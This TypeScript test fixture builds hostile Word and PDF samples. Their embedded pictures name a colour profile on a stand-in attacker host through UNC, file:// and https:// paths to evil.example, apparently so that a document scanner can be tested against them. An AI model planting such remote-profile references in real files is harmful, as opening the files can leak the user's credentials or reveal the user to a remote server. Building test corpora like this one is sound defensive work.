import { gzipSync } from 'node:zlib';
import { docxFile } from '../../../support/docx';
import { attachedPdf } from '../../../support/pdf/make';
import { blip, packedBlip, packedKinds } from '../../../support/pictures';
import { bitmapFile, linkedBitmap, withProfile } from '../../../support/profiles';
import { wordFile } from '../../../support/word97';
import { type Hostile, hostileFile } from './hostile';

const word = hostileFile('docx');
const oldWord = hostileFile('doc');
const elsewhere = 'its colours from another computer';

const server = '\\\\evil.example\\share\\p.icm';
const names = [
  server,
  '//evil.example/p.icm',
  'file://evil.example/p.icm',
  'https://evil.example/p.icm',
  '\\??\\UNC\\evil\\p',
];

const part = (data: Buffer, type: string) => docxFile({ 'word/media/a.x': data }, { x: type });
const inStream = (data: Buffer) => wordFile({ text: 'CV' }, { Data: data });

const everywhere: Hostile[] = Object.entries(withProfile(server)).flatMap(([what, data]) => [
  word(`with a profile elsewhere in ${what}`, part(data, 'image/x-picture'), elsewhere),
  word(`with a profile elsewhere in ${what}, packed`, part(gzipSync(data), 'application/octet-stream'), elsewhere),
  oldWord(`with a profile elsewhere in ${what}`, inStream(blip(data)), elsewhere),
]);

const ofAnyName: Hostile[] = names.flatMap((name) => [
  word(`with a bitmap whose profile is ${name}`, part(bitmapFile(name), 'image/bmp'), elsewhere),
  ...Object.entries(withProfile(name))
    .slice(0, 4)
    .map(([what, data]) => word(`whose profile is ${name} in ${what}`, part(data, 'image/x-emf'), elsewhere)),
]);

const attached: Hostile[] = [
  ['photo.bmp', bitmapFile(server)] as const,
  ['photo.emf', withProfile(server)['EMF with a profile'] ?? Buffer.alloc(0)] as const,
].map(([name, data]) => ({
  what: `a PDF with ${name} attached, whose profile is elsewhere`,
  name: 'cv.pdf',
  data: attachedPdf(name, data),
  because: elsewhere,
}));

/** Pictures whose profile of colours is on another computer, wherever a picture may name one. */
export const colouredElsewhere: Hostile[] = [
  ...everywhere,
  ...ofAnyName,
  ...attached,
  oldWord(
    'with a bitmap without the head of a file',
    inStream(blip(linkedBitmap(server), { type: 0xf01f })),
    elsewhere,
  ),
  oldWord(
    'with a packed metafile whose profile is elsewhere',
    inStream(packedBlip(withProfile(server)['EMF with a profile'] ?? Buffer.alloc(0), packedKinds.EMF)),
    elsewhere,
  ),
];
